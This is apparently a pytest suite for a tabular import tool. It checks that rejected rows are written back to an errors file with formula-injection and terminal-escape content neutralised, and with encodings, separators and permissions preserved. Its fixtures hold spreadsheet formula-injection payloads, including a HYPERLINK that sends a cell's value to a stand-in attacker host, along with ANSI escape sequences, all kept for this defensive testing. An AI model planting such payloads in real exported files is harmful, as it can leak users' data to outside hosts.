"""Rows that an import refuses come back in a file of their own, as they were, and harm nobody."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chassis.api.text import NOT_TEXT
from rapport_imports.tabular import neutralised, open_table, restored
from tools.tests.cli.conftest import Check

REFUSED = 'customer_id,date,amount\n"=HYPERLINK(""http://evil.example/?""&A1)",yesterday,1\n@SUM(1+1),yesterday,1,more\n'


def test_refused_rows_are_no_formulas_and_come_back_as_they_were(check: Check, tmp_path: Path) -> None:
    _, result, _ = check("purchases", REFUSED)
    lines = list(csv.reader(Path(result["errors_file"]).read_text().splitlines()))
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
    assert [line[3] for line in lines] == ["", "", "more"]
    first, second = open_table(Path(result["errors_file"])).rows()
    source = open_table(tmp_path / "t.csv")
    assert first.cells["customer_id"] == '=HYPERLINK("http://evil.example/?"&A1)'
    assert (second.cells["customer_id"], second.extra) == ("@SUM(1+1)", ["more"])
    assert [first.origin, second.origin] == [row.origin for row in source.rows()]


def test_control_characters_reach_no_terminal_and_no_errors_file(check: Check, tmp_path: Path) -> None:
    code, result, _ = check(
        "customers", "id,na\x1b[31mme\n1,a\x1b[2Jb\n2,a\x00b\x9b\n", "--map", "display_name=na␛[31mme"
    )
    written = Path(result["errors_file"]).read_text()
    assert (code, result["refused"], result["used"]["display_name"]) == (1, 2, "na␛[31mme")
    assert "a␛[2Jb" in written
    assert "a␀b␦" in written
    assert not NOT_TEXT.search(written.replace("\r", ""))
    (tmp_path / "again.csv").write_text(written)
    assert check("customers", written, "--map", "display_name=na␛[31mme", name="again.csv")[1]["refused"] == 2


@given(st.text(alphabet="=+-@'\t\r\n;,| \"\uff1d\uff0b\uff0d\uff20aé1"))
def test_whatever_is_neutralised_is_restored_and_begins_no_formula_however_it_is_split(cell: str) -> None:
    assert restored(neutralised(cell)) == cell
    parts = re.split(r"[;,|\t\n]", neutralised(cell))
    assert not [part for part in parts if part.lstrip('"').startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))]


def test_no_cell_of_refused_rows_is_a_formula_where_another_separator_splits(check: Check) -> None:
    text = 'customer_id,date,amount,"x;=y"\n"a;=HYPERLINK(""http://evil.example/"");b",z,1,\n\uff1d1+1,z,1,\n'
    path = Path(check("purchases", text, "--map", "reference=x;=y")[1]["errors_file"])
    for separator in ",;\t|":
        written = csv.reader(path.read_text().splitlines(), delimiter=separator, strict=False)
        assert not any(cell.lstrip().startswith(("=", "\uff1d")) for row in written for cell in row)
    first, second = open_table(path).rows()
    assert first.cells["customer_id"] == 'a;=HYPERLINK("http://evil.example/");b'
    assert second.cells["customer_id"] == "\uff1d1+1"
    assert open_table(path).before.columns["reference"] == "x;=y"


def test_refused_rows_are_for_nobody_else_to_read(check: Check) -> None:
    path = Path(check("customers", "id,name\n,Anna\x1b\n")[1]["errors_file"])
    assert path.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    ("encoding", "separator", "begins"),
    [
        ("utf-8", ";", b"id;name;"),
        ("utf-8-sig", "\t", b"\xef\xbb\xbfid\tname\t"),
        ("cp1252", ",", b"id,name,"),
        ("utf-16", ";", b"\xff\xfei\0d\0;\0"),
    ],
)
def test_refused_rows_are_written_as_their_file_was(
    check: Check, encoding: str, separator: str, begins: bytes
) -> None:
    lines = ["id,name,language", "1,Jörg Müller,de", ",Renée Núñez,fr", "3,Zoë\x1b,nl"]
    file = "\r\n".join(line.replace(",", separator) for line in lines)
    result = check("customers", f"{file}\r\n".encode(encoding))[1]
    written = Path(result["errors_file"]).read_bytes()
    assert (result["refused"], written.startswith(begins)) == (2, True)
    again = check("customers", written, name="again.csv")[1]
    assert (again["rows"], again["refused"], again["used"]) == (2, 2, result["used"])
    [row, _] = open_table(Path(result["errors_file"])).rows()
    assert row.cells["name"] == "Renée Núñez"


def test_the_sheet_that_is_read_and_the_others_are_told(check: Check) -> None:
    book = openpyxl.Workbook()
    for title in ("Sales", "Notes", "Old"):
        sheet = book.create_sheet(title)
        sheet.append(["id", "name"])
        sheet.append(["", title])
    del book["Sheet"]
    saved = io.BytesIO()
    book.save(saved)
    result = check("customers", saved.getvalue(), name="t.xlsx")[1]
    assert result["notes"] == ["sheet Sales is read; --sheet names another: Notes, Old"]
    assert Path(result["errors_file"]).read_bytes().startswith("\ufeffid,name,".encode())
    assert check("customers", saved.getvalue(), "--sheet", "Old", name="t.xlsx")[1]["notes"] == [
        "sheet Old is read; --sheet names another: Sales, Notes"
    ]


def test_a_declared_separator_is_declared_in_the_file_of_refused_rows(check: Check) -> None:
    result = check("customers", "sep=;\nid;name\n;Anna\n")[1]
    assert Path(result["errors_file"]).read_text().startswith("sep=;\nid;name;")


def test_no_file_is_overwritten(check: Check, tmp_path: Path) -> None:
    first = Path(check("purchases", REFUSED)[1]["errors_file"])
    first.write_text("mended")
    second = Path(check("purchases", REFUSED)[1]["errors_file"])
    assert (first.read_text(), first != second) == ("mended", True)
    check("purchases", REFUSED, "--errors", str(tmp_path / "t.csv"))
    assert (tmp_path / "t.csv").read_text() == REFUSED


def test_a_folder_that_takes_no_file_hides_no_result(check: Check, tmp_path: Path) -> None:
    code, result, _ = check("purchases", REFUSED, "--errors", str(tmp_path / "t.csv" / "x"))
    assert (code, result["refused"], result["errors_file"]) == (1, 2, "")
    assert "could not be written" in result["notes"][0]
    assert "line 2: INVALID_TIME" in result["notes"][1]
